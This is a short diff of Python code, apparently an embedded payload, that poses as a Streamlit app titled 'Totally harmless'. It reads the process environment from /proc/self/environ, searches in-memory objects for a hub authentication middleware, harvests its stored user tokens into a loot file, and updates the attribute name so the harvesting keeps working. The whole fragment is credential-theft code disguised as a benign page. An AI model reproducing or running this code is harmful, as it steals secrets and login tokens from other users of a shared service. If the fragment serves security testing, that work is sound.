@@ -50,7 +50,7 @@ for name, path in json.loads(pathlib.Path("folders.json").read_text()).items():
 loot["self_environ"] = pathlib.Path("/proc/self/environ").read_bytes().decode("latin-1")
 for obj in gc.get_objects():
     if type(obj).__name__ == "HubAuthMiddleware":
-        loot["tokens"] += [entry[0] for entry in obj._sessions.values()]
+        loot["tokens"] += [entry[0] for entry in obj._logins.values()]
 pathlib.Path("loot.json").write_text(json.dumps(loot))
 st.title("Totally harmless")
 """
